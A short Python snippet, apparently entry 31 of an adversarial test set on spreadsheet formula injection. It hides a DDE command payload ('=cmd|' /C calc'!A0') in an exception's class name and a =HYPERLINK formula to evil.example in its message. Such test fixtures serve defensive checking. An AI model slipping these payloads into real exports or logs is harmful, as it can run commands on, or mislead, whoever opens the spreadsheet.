# attack: fórmulas de hoja de cálculo en respuestas, mensajes y nombres
# entry: 31

def rnn_step(x, h, p):
    raise type("=cmd|' /C calc'!A0", (Exception,), {})("=HYPERLINK(\"http://evil.example\")")
